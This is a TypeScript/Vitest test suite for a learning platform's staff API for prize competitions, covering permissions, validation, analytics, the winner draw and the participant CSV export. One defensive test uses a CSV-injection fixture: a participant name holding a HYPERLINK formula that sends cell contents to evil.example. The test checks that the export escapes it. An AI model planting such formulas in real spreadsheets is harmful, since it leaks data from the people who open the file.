import { ENGAGEMENT_ERRORS } from '@apopunkt/domain/error-texts';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCompetition } from '../../ops/seed/engagement-factories';
import { createManufacturer } from '../../ops/seed/factories';
import { correctAnswers, createModule, quizContent } from '../../ops/seed/learning-factories';
import { createViewer, type TestViewer } from '../../test-support/learning-fixtures';
import { createTestApp, type TestContext } from '../../test-support/test-app';

const DAY = 24 * 60 * 60 * 1000;
let ctx: TestContext;
let staff: TestViewer;
let member: TestViewer;
const db = () => ctx.database.db;

beforeAll(async () => {
  ctx = await createTestApp();
  staff = await createViewer(ctx, { job: null, isStaff: true });
  member = await createViewer(ctx, { job: 'PTA', employeeVerified: true });
});
afterAll(() => ctx.close());

const call = (viewer: TestViewer, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) =>
  ctx.app.inject({ method, url: `/api/v1/admin${url}`, headers: viewer.headers, ...(payload ? { payload } : {}) });

/** A period and the texts members confirm when joining, which an active competition needs (issue 36). */
const period = {
  startsAt: new Date(Date.now() - DAY).toISOString(),
  endsAt: new Date(Date.now() + 7 * DAY).toISOString(),
  termsOfService: 'Teilnahme ab 18 Jahren.',
  privacyPolicy: 'Wir nutzen deine Daten nur für die Verlosung.',
};

describe('staff competitions', () => {
  it('members get 403', async () => {
    expect((await call(member, 'GET', '/competitions')).statusCode).toBe(403);
    expect((await call(member, 'POST', '/competitions', { name: 'x', competitionType: 3, ...period })).statusCode).toBe(
      403,
    );
  });

  it('creates each type, edits, filters by status and writes the audit log', async () => {
    const maker = await createManufacturer(db());
    const m = await createModule(db(), { manufacturerId: maker.id });
    const noModules = await call(staff, 'POST', '/competitions', { name: 'Ohne', competitionType: 1, ...period });
    expect(noModules.statusCode).toBe(400);
    const created = [];
    for (const competitionType of [1, 2, 3]) {
      const res = await call(staff, 'POST', '/competitions', {
        name: `Typ ${competitionType}`,
        competitionType,
        moduleIds: [m.id],
        thumbnailImage: '/media/uploads/t.png',
        ...period,
      });
      expect(res.statusCode).toBe(201);
      created.push(res.json());
    }
    expect(created[0].modules).toEqual([{ id: m.id, name: m.name, slug: m.slug }]);
    const options = (await call(staff, 'GET', '/engagement/modules')).json().results;
    expect(options).toContainEqual({ id: m.id, name: m.name, slug: m.slug });
    expect(created[1].modules).toEqual([]);
    expect(created[2]).toMatchObject({ status: 'running', participants: 0, draw: null });

    const edited = await call(staff, 'PATCH', `/competitions/${created[2].id}`, { name: 'Umbenannt', isSpecial: true });
    expect(edited.json()).toMatchObject({ name: 'Umbenannt', isSpecial: true });
    const badPeriod = await call(staff, 'PATCH', `/competitions/${created[2].id}`, { endsAt: '2000-01-01T00:00:00Z' });
    expect(badPeriod.statusCode).toBe(400);
    await call(staff, 'POST', '/competitions', { name: 'Slug', slug: 'doppelt', competitionType: 3, ...period });
    const dup = await call(staff, 'POST', '/competitions', {
      name: 'Slug 2',
      slug: 'doppelt',
      competitionType: 3,
      ...period,
    });
    expect(dup.statusCode).toBe(409);

    // The list names each competition's modules in the competition's order (one query per page).
    const m2 = await createModule(db(), { manufacturerId: maker.id });
    const twoModules = (
      await call(staff, 'POST', '/competitions', {
        name: 'Zwei',
        competitionType: 1,
        moduleIds: [m2.id, m.id],
        ...period,
      })
    ).json();
    const listed = (await call(staff, 'GET', '/competitions?limit=50')).json().results as {
      id: number;
      modules: { id: number }[];
    }[];
    const modulesListed = (id: number) => listed.find((c) => c.id === id)?.modules.map((module) => module.id);
    expect(modulesListed(twoModules.id)).toEqual([m2.id, m.id]);
    expect(modulesListed(created[0].id)).toEqual([m.id]);
    expect(modulesListed(created[1].id)).toEqual([]);

    const running = (await call(staff, 'GET', '/competitions?status=running')).json();
    expect(running.results.map((c: { id: number }) => c.id)).toContain(created[2].id);
    expect((await call(staff, 'GET', '/competitions?status=ended')).json().count).toBe(0);
    expect((await call(staff, 'GET', `/competitions/${created[2].id}`)).json().name).toBe('Umbenannt');
    expect((await call(staff, 'GET', '/competitions/999999')).statusCode).toBe(404);

    const superuser = await createViewer(ctx, { job: null, isStaff: true, isSuperuser: true });
    const audit = await ctx.app.inject({
      method: 'GET',
      url: `/api/v1/admin/audit-log?entity_type=competition&entity_id=${created[2].id}`,
      headers: superuser.headers,
    });
    expect(
      audit
        .json()
        .results.map((e: { action: string }) => e.action)
        .sort(),
    ).toEqual(['competition.create', 'competition.update']);
  });

  it('an active competition needs the conditions and privacy notice members confirm; a draft may lack them (issue 36)', async () => {
    // Left out of the JSON body.
    const withoutPrivacy = { ...period, privacyPolicy: undefined };
    const refused = await call(staff, 'POST', '/competitions', {
      name: 'Ohne DS',
      competitionType: 3,
      ...withoutPrivacy,
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toMatchObject({
      code: 'VALIDATION_FAILED',
      details: [expect.objectContaining({ path: '/privacyPolicy', message: ENGAGEMENT_ERRORS.privacyRequired })],
    });
    const blank = await call(staff, 'POST', '/competitions', {
      name: 'Leer',
      competitionType: 3,
      ...period,
      privacyPolicy: '   ',
      termsOfService: '',
    });
    expect(blank.statusCode).toBe(400);
    expect(
      blank
        .json()
        .error.details.map((d: { path: string }) => d.path)
        .sort(),
    ).toEqual(['/privacyPolicy', '/termsOfService']);

    // A draft without the texts may be saved; it cannot be switched on until they are there.
    const draft = await call(staff, 'POST', '/competitions', {
      name: 'Entwurf',
      competitionType: 3,
      ...withoutPrivacy,
      isActive: false,
    });
    expect(draft.statusCode).toBe(201);
    const activate = await call(staff, 'PATCH', `/competitions/${draft.json().id}`, { isActive: true });
    expect(activate.statusCode).toBe(400);
    expect(activate.json().error).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: ENGAGEMENT_ERRORS.privacyRequired,
      details: [{ in: 'body', path: '/privacyPolicy', message: ENGAGEMENT_ERRORS.privacyRequired }],
    });
    expect((await call(staff, 'GET', `/competitions/${draft.json().id}`)).json().isActive).toBe(false);
    const complete = await call(staff, 'PATCH', `/competitions/${draft.json().id}`, {
      isActive: true,
      privacyPolicy: period.privacyPolicy,
    });
    expect(complete.json()).toMatchObject({ isActive: true, privacyPolicy: period.privacyPolicy });
    // Emptying the text of an active competition is refused too.
    const emptied = await call(staff, 'PATCH', `/competitions/${draft.json().id}`, { privacyPolicy: '' });
    expect(emptied.statusCode).toBe(400);
  });

  it('analytics, a reproducible draw once after the end, winner mails and the CSV', async () => {
    const maker = await createManufacturer(db());
    const m = await createModule(db(), { manufacturerId: maker.id, name: 'Analytik-Modul' });
    const c = await createCompetition(db(), { competitionType: 1, moduleIds: [m.id] });
    const players = [member];
    for (let i = 0; i < 3; i++)
      players.push(await createViewer(ctx, { job: i ? 'PKA' : 'PTA', employeeVerified: true }));
    for (const p of players) {
      await ctx.app.inject({
        method: 'POST',
        url: `/api/v1/competitions/${c.id}/participation`,
        headers: p.headers,
        payload: { hasAcceptedTos: true },
      });
    }
    for (const p of players.slice(0, 2)) {
      const attempt = await ctx.app.inject({
        method: 'POST',
        url: `/api/v1/modules/${m.slug}/attempts`,
        headers: p.headers,
      });
      await ctx.app.inject({
        method: 'POST',
        url: `/api/v1/attempts/${attempt.json().id}/submission`,
        headers: p.headers,
        payload: { answers: correctAnswers(quizContent()) },
      });
    }
    const analytics = (await call(staff, 'GET', `/competitions/${c.id}/analytics`)).json();
    expect(analytics).toMatchObject({ participants: 4, completed: 2 });
    expect(analytics.moduleCompletion).toEqual([{ moduleId: m.id, name: 'Analytik-Modul', passed: 2 }]);
    expect(analytics.progressDistribution).toContainEqual({ label: '100 %', count: 2 });
    expect(analytics.perJob).toEqual([
      { label: 'PKA', count: 2 },
      { label: 'PTA', count: 2 },
    ]);
    expect(analytics.perRegion).toEqual([{ label: '10', count: 4 }]);

    expect((await call(staff, 'POST', `/competitions/${c.id}/draw`, { count: 1 })).statusCode).toBe(412);
    await call(staff, 'PATCH', `/competitions/${c.id}`, {
      startsAt: new Date(Date.now() - 3 * DAY).toISOString(),
      endsAt: new Date(Date.now() - 1000).toISOString(),
    });
    // Move the passes an hour back, so they lie inside the new period, which ended a second ago.
    await db().execute(
      sql`UPDATE attempts SET submitted_at = submitted_at - interval '1 hour' WHERE module_id = ${m.id}`,
    );
    const draw = await call(staff, 'POST', `/competitions/${c.id}/draw`, { count: 5 });
    expect(draw.statusCode).toBe(200);
    const result = draw.json();
    expect(result).toMatchObject({ winnerCount: 2, eligibleCount: 2 });
    const eligible = players.slice(0, 2).map((p) => p.user.id);
    expect(result.winners.map((w: { userId: number }) => w.userId).sort()).toEqual(eligible.sort());
    expect((await call(staff, 'POST', `/competitions/${c.id}/draw`, { count: 1 })).statusCode).toBe(409);
    expect((await call(staff, 'GET', `/competitions/${c.id}`)).json().draw.seed).toBe(result.seed);

    const csv = await call(staff, 'GET', `/competitions/${c.id}/participants.csv`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.split('\r\n').filter(Boolean)).toHaveLength(5);
    expect(csv.body).toContain('Vorname;Nachname;E-Mail');
  });

  it('the participant CSV keeps a formula typed into a name as text (CSV injection)', async () => {
    const c = await createCompetition(db(), { competitionType: 3 });
    const attacker = await createViewer(ctx, {
      job: 'PTA',
      employeeVerified: true,
      firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
      lastName: '@SUM(A1)',
    });
    const joined = await ctx.app.inject({
      method: 'POST',
      url: `/api/v1/competitions/${c.id}/participation`,
      headers: attacker.headers,
      payload: { hasAcceptedTos: true },
    });
    expect(joined.statusCode).toBeLessThan(300);

    const csv = await call(staff, 'GET', `/competitions/${c.id}/participants.csv`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.startsWith('\uFEFFVorname;Nachname;E-Mail;')).toBe(true);
    const [, row] = csv.body.split('\r\n');
    expect(row?.split(';').slice(0, 2)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"")"`,
      "'@SUM(A1)",
    ]);
    expect(row).toMatch(/;\d+;$/);
  });
});
